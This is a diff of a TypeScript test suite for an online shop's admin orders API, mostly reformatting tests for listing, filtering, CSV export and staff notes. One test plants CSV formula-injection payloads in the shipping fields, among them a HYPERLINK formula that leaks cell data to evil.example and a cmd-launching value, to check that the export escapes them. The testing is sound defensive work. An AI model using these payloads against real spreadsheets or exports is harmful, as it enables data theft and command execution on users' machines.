@@ -5,7 +5,15 @@ import { auditLog, orderEvents, orders } from "@api/db/schema";
 import { type TestApi, createTestApi } from "@api/test/harness";
 import { ORDER_NOTE_REQUIRED, ORDER_PAGE_SIZE } from "@api/validation/admin-orders";
 import { ORDER_STATUSES } from "@api/validation/order-states";
-import { type Target, deliveryAddress, ensureDemoFacts, findProduct, line, orderPayload, setStock } from "@api/resources/customer-orders/order-fixtures";
+import {
+  type Target,
+  deliveryAddress,
+  ensureDemoFacts,
+  findProduct,
+  line,
+  orderPayload,
+  setStock,
+} from "@api/resources/customer-orders/order-fixtures";
 import { signedInStaff } from "../test-helpers";
 import { codConfirmationToken } from "@api/resources/cod-confirmation/cod-link";
 import { ORDER_CSV_COLUMNS } from "./orders-csv";
@@ -36,7 +44,11 @@ const newTag = () => `tag${process.pid}x${++tagCounter}`;
 async function placeOrder(tag: string, columns: OrderColumns = {}, lines = [line(plain, 1)]) {
   const shopper = await api.signIn();
   api.clock.advance(1000);
-  const res = await api.post("/customerOrders", orderPayload(lines, { email: `${tag}.${shopper.customerId}@example.in` }), shopper.token);
+  const res = await api.post(
+    "/customerOrders",
+    orderPayload(lines, { email: `${tag}.${shopper.customerId}@example.in` }),
+    shopper.token,
+  );
   expect(res.status).toBe(200);
   const { _id, orderId } = res.json.body as { _id: string; orderId: string };
   if (Object.keys(columns).length) await api.db.update(orders).set(columns).where(eq(orders.id, _id));
@@ -49,7 +61,11 @@ const orderIds = async (query: string) => {
   expect(res.status, JSON.stringify(res.json.errors)).toBe(200);
   return (res.json.body as { orderId: string }[]).map((row) => row.orderId);
 };
-const address = (changes: Partial<Omit<typeof deliveryAddress, "addressType">>) => ({ ...deliveryAddress, addressType: "HOME" as const, ...changes });
+const address = (changes: Partial<Omit<typeof deliveryAddress, "addressType">>) => ({
+  ...deliveryAddress,
+  addressType: "HOME" as const,
+  ...changes,
+});
 
 describe("GET /admin/orders", () => {
   it("lists the newest first, 20 a page, each row with what the queue shows", async () => {
@@ -105,7 +121,11 @@ describe("GET /admin/orders", () => {
     const placed = await placeOrder(tag);
     const packed = await placeOrder(tag, { orderStatus: "PACKED" });
     const paid = await placeOrder(tag, { orderStatus: "CONFIRMED", paymentMethod: "Prepaid", paymentStatus: "PAID" });
-    const failed = await placeOrder(tag, { orderStatus: "PAYMENT_FAILED", paymentMethod: "Prepaid", paymentStatus: "FAILED" });
+    const failed = await placeOrder(tag, {
+      orderStatus: "PAYMENT_FAILED",
+      paymentMethod: "Prepaid",
+      paymentStatus: "FAILED",
+    });
     expect(await orderIds(`q=${tag}&status=PACKED`)).toEqual([packed.orderId]);
     expect(await orderIds(`q=${tag}&status=PAYMENT_FAILED`)).toEqual([failed.orderId]);
     expect(await orderIds(`q=${tag}&paymentMethod=COD`)).toEqual([packed.orderId, placed.orderId]);
@@ -127,8 +147,12 @@ describe("GET /admin/orders", () => {
   it("filters by the shipping address's pincode or state", async () => {
     const tag = newTag();
     const delhi = await placeOrder(tag);
-    const mumbai = await placeOrder(tag, { shippingAddress: address({ email: `${tag}@example.in`, city: "Mumbai", state: "Maharashtra", pincode: "400001" }) });
-    const pune = await placeOrder(tag, { shippingAddress: address({ email: `${tag}@example.in`, city: "Pune", state: "Maharashtra", pincode: "411001" }) });
+    const mumbai = await placeOrder(tag, {
+      shippingAddress: address({ email: `${tag}@example.in`, city: "Mumbai", state: "Maharashtra", pincode: "400001" }),
+    });
+    const pune = await placeOrder(tag, {
+      shippingAddress: address({ email: `${tag}@example.in`, city: "Pune", state: "Maharashtra", pincode: "411001" }),
+    });
     expect(await orderIds(`q=${tag}&pincode=400001`)).toEqual([mumbai.orderId]);
     expect(await orderIds(`q=${tag}&state=Maharashtra`)).toEqual([pune.orderId, mumbai.orderId]);
     expect(await orderIds(`q=${tag}&state=Delhi`)).toEqual([delhi.orderId]);
@@ -164,7 +188,9 @@ describe("GET /admin/orders", () => {
   });
 
   it("refuses filters it does not know, each on its field", async () => {
-    const res = await list("status=LOST&paymentMethod=Cheque&paymentStatus=MAYBE&from=2026-02-30&pincode=12&state=Atlantis&sort=random");
+    const res = await list(
+      "status=LOST&paymentMethod=Cheque&paymentStatus=MAYBE&from=2026-02-30&pincode=12&state=Atlantis&sort=random",
+    );
     expect(res.status).toBe(400);
     expect(res.json.errors).toEqual({
       status: "Status is not one of the allowed values",
@@ -187,14 +213,28 @@ describe("a COD order the shopper confirmed from the link in its message", () =>
     const byShopper = await placeOrder(tag);
     const byStaff = await placeOrder(tag);
     const [row] = await api.db.select().from(orders).where(eq(orders.id, byShopper.id));
-    const confirmed = await api.post(`/codConfirmations/${codConfirmationToken(api.deps.env.ORDER_LINK_SECRET, row.orderId, row.createdAt)}`);
+    const confirmed = await api.post(
+      `/codConfirmations/${codConfirmationToken(api.deps.env.ORDER_LINK_SECRET, row.orderId, row.createdAt)}`,
+    );
     expect(confirmed.status).toBe(200);
-    expect((await api.post(`/admin/orders/${byStaff.orderId}/status`, { to: "CONFIRMED" }, ops.token)).status).toBe(200);
+    expect((await api.post(`/admin/orders/${byStaff.orderId}/status`, { to: "CONFIRMED" }, ops.token)).status).toBe(
+      200,
+    );
     const at = api.clock.now().toISOString();
 
-    const rows = (await list(`q=${tag}`)).json.body as { orderId: string; orderStatus: string; codConfirmedAt: string | null }[];
-    expect(rows.find((r) => r.orderId === byShopper.orderId)).toMatchObject({ orderStatus: "CONFIRMED", codConfirmedAt: at });
-    expect(rows.find((r) => r.orderId === byStaff.orderId)).toMatchObject({ orderStatus: "CONFIRMED", codConfirmedAt: null });
+    const rows = (await list(`q=${tag}`)).json.body as {
+      orderId: string;
+      orderStatus: string;
+      codConfirmedAt: string | null;
+    }[];
+    expect(rows.find((r) => r.orderId === byShopper.orderId)).toMatchObject({
+      orderStatus: "CONFIRMED",
+      codConfirmedAt: at,
+    });
+    expect(rows.find((r) => r.orderId === byStaff.orderId)).toMatchObject({
+      orderStatus: "CONFIRMED",
+      codConfirmedAt: null,
+    });
     expect((await api.get(`/admin/orders/${byShopper.orderId}`, ops.token)).json.body.payment.codConfirmedAt).toBe(at);
     expect((await api.get(`/admin/orders/${byStaff.orderId}`, ops.token)).json.body.payment.codConfirmedAt).toBeNull();
   });
@@ -203,12 +243,18 @@ describe("a COD order the shopper confirmed from the link in its message", () =>
 describe("GET /admin/orders/export", () => {
   it("answers the filtered orders as CSV, a row per line with the order's columns repeated, money in rupees", async () => {
     const tag = newTag();
-    const two = await placeOrder(tag, { couponCode: "FLAT500", awb: `X${tag}`, createdAt: new Date("2026-11-20T23:30:00+05:30") }, [line(plain, 1), line(coloured, 2)]);
+    const two = await placeOrder(
+      tag,
+      { couponCode: "FLAT500", awb: `X${tag}`, createdAt: new Date("2026-11-20T23:30:00+05:30") },
+      [line(plain, 1), line(coloured, 2)],
+    );
     await placeOrder(tag, { orderStatus: "CANCELLED" });
     const res = await api.get(`/admin/orders/export?q=${tag}&status=ORDERPLACED`, ops.token);
     expect(res.status).toBe(200);
     expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
-    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="woodnest-orders-\d{4}-\d{2}-\d{2}\.csv"$/);
+    expect(res.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="woodnest-orders-\d{4}-\d{2}-\d{2}\.csv"$/,
+    );
     const rows: Record<string, string>[] = parse(res.json as string, { columns: true, bom: true });
     expect(Object.keys(rows[0])).toEqual([...ORDER_CSV_COLUMNS]);
     expect(rows).toHaveLength(2);
@@ -241,11 +287,19 @@ describe("GET /admin/orders/export", () => {
   it("writes a name or city that looks like a formula behind an apostrophe, and money as numbers", async () => {
     const tag = newTag();
     const name = `=HYPERLINK("http://evil.example/?leak="&A2,"Open")`;
-    const placed = await placeOrder(tag, { shippingAddress: address({ email: `${tag}@example.in`, name, city: "+cmd|' /C calc'!A0", state: "-2+3" }) });
+    const placed = await placeOrder(tag, {
+      shippingAddress: address({ email: `${tag}@example.in`, name, city: "+cmd|' /C calc'!A0", state: "-2+3" }),
+    });
     const res = await api.get(`/admin/orders/export?q=${tag}`, ops.token);
     expect(res.status).toBe(200);
     const [row]: Record<string, string>[] = parse(res.json as string, { columns: true, bom: true });
-    expect(row).toMatchObject({ order_id: placed.orderId, customer_name: `'${name}`, city: "'+cmd|' /C calc'!A0", state: "'-2+3", subtotal: "10000" });
+    expect(row).toMatchObject({
+      order_id: placed.orderId,
+      customer_name: `'${name}`,
+      city: "'+cmd|' /C calc'!A0",
+      state: "'-2+3",
+      subtotal: "10000",
+    });
   });
 
   it("refuses the same bad filters as the list", async () => {
@@ -262,7 +316,14 @@ describe("GET /admin/orders/:orderId", () => {
     await api.post(`/admin/orders/${made.orderId}/status`, { to: "CONFIRMED", note: "Called the shopper" }, ops.token);
     await api.db
       .update(orders)
-      .set({ awb: `D${tag}`, courierName: "Sandbox Courier", trackingUrl: "https://track.example/D1", couriertOrderId: "11", couriertChannelOrderId: "12", couriertShipmentId: "13" })
+      .set({
+        awb: `D${tag}`,
+        courierName: "Sandbox Courier",
+        trackingUrl: "https://track.example/D1",
+        couriertOrderId: "11",
+        couriertChannelOrderId: "12",
+        couriertShipmentId: "13",
+      })
       .where(eq(orders.id, made.id));
     const res = await api.get(`/admin/orders/${made.orderId.toLowerCase()}`, ops.token);
     expect(res.status).toBe(200);
@@ -275,7 +336,14 @@ describe("GET /admin/orders/:orderId", () => {
       couponCode: null,
       shippingAddress: { name: "Asha Verma", pincode: "110001", city: "New Delhi" },
       customer: { _id: made.shopper.customerId, name: "Asha Verma", mobile: made.shopper.mobile },
-      payment: { method: "COD", status: "PENDING", gatewayOrderId: null, gatewayPaymentId: null, paidAt: null, codConfirmedAt: null },
+      payment: {
+        method: "COD",
+        status: "PENDING",
+        gatewayOrderId: null,
+        gatewayPaymentId: null,
+        paidAt: null,
+        codConfirmedAt: null,
+      },
       courier: {
         awb: `D${tag}`,
         courierName: "Sandbox Courier",
@@ -289,7 +357,9 @@ describe("GET /admin/orders/:orderId", () => {
       moves: ["PACKED", "CANCELLED"],
     });
     expect(body.total).toBe(body.subtotal + body.delivery - body.discount);
-    expect(body.lines).toEqual([expect.objectContaining({ quantity: 2, unitPrice: 10_000, lineTotal: 20_000, colour: null, size: null })]);
+    expect(body.lines).toEqual([
+      expect.objectContaining({ quantity: 2, unitPrice: 10_000, lineTotal: 20_000, colour: null, size: null }),
+    ]);
     expect(body.staffTimeline.at(-1)).toEqual({
       kind: "status",
       from: "ORDERPLACED",
@@ -311,15 +381,40 @@ describe("GET /admin/orders/:orderId", () => {
 describe("POST /admin/orders/:orderId/notes", () => {
   it("adds an internal note to the timeline with its author, and audits it", async () => {
     const made = await placeOrder(newTag());
-    const res = await api.post(`/admin/orders/${made.orderId}/notes`, { note: "  Shopper asked for delivery after 6 pm  " }, ops.token);
+    const res = await api.post(
+      `/admin/orders/${made.orderId}/notes`,
+      { note: "  Shopper asked for delivery after 6 pm  " },
+      ops.token,
+    );
     expect(res.status).toBe(200);
     expect(res.json.message).toBe(`Note added to order ${made.orderId}`);
-    const notes = await api.db.select().from(orderEvents).where(and(eq(orderEvents.orderId, made.id), eq(orderEvents.kind, "note")));
-    expect(notes).toEqual([expect.objectContaining({ note: "Shopper asked for delivery after 6 pm", actorType: "staff", staffId: ops.member.id, actorName: ops.member.name })]);
-    const [audit] = await api.db.select().from(auditLog).where(and(eq(auditLog.entityId, made.orderId), eq(auditLog.action, "order.note")));
-    expect(audit).toMatchObject({ staffId: ops.member.id, entityType: "order", after: { note: "Shopper asked for delivery after 6 pm" } });
+    const notes = await api.db
+      .select()
+      .from(orderEvents)
+      .where(and(eq(orderEvents.orderId, made.id), eq(orderEvents.kind, "note")));
+    expect(notes).toEqual([
+      expect.objectContaining({
+        note: "Shopper asked for delivery after 6 pm",
+        actorType: "staff",
+        staffId: ops.member.id,
+        actorName: ops.member.name,
+      }),
+    ]);
+    const [audit] = await api.db
+      .select()
+      .from(auditLog)
+      .where(and(eq(auditLog.entityId, made.orderId), eq(auditLog.action, "order.note")));
+    expect(audit).toMatchObject({
+      staffId: ops.member.id,
+      entityType: "order",
+      after: { note: "Shopper asked for delivery after 6 pm" },
+    });
     const detail = await api.get(`/admin/orders/${made.orderId}`, ops.token);
-    expect(detail.json.body.staffTimeline.at(-1)).toMatchObject({ kind: "note", note: "Shopper asked for delivery after 6 pm", to: null });
+    expect(detail.json.body.staffTimeline.at(-1)).toMatchObject({
+      kind: "note",
+      note: "Shopper asked for delivery after 6 pm",
+      to: null,
+    });
     // The shopper never sees staff's notes.
     const shopperView = await api.get(`/customerOrders/${made.orderId}`, made.shopper.token);
     expect(JSON.stringify(shopperView.json)).not.toContain("after 6 pm");
@@ -332,7 +427,12 @@ describe("POST /admin/orders/:orderId/notes", () => {
     expect(empty.json.errors).toEqual({ note: ORDER_NOTE_REQUIRED });
     const long = await api.post(`/admin/orders/${made.orderId}/notes`, { note: "x".repeat(1001) }, ops.token);
     expect(long.json.errors).toEqual({ note: "Note must be at most 1000 characters" });
-    expect(await api.db.select().from(orderEvents).where(and(eq(orderEvents.orderId, made.id), eq(orderEvents.kind, "note")))).toEqual([]);
+    expect(
+      await api.db
+        .select()
+        .from(orderEvents)
+        .where(and(eq(orderEvents.orderId, made.id), eq(orderEvents.kind, "note"))),
+    ).toEqual([]);
     const unknown = await api.post("/admin/orders/FS999999999/notes", { note: "Hello" }, ops.token);
     expect(unknown.status).toBe(404);
   });
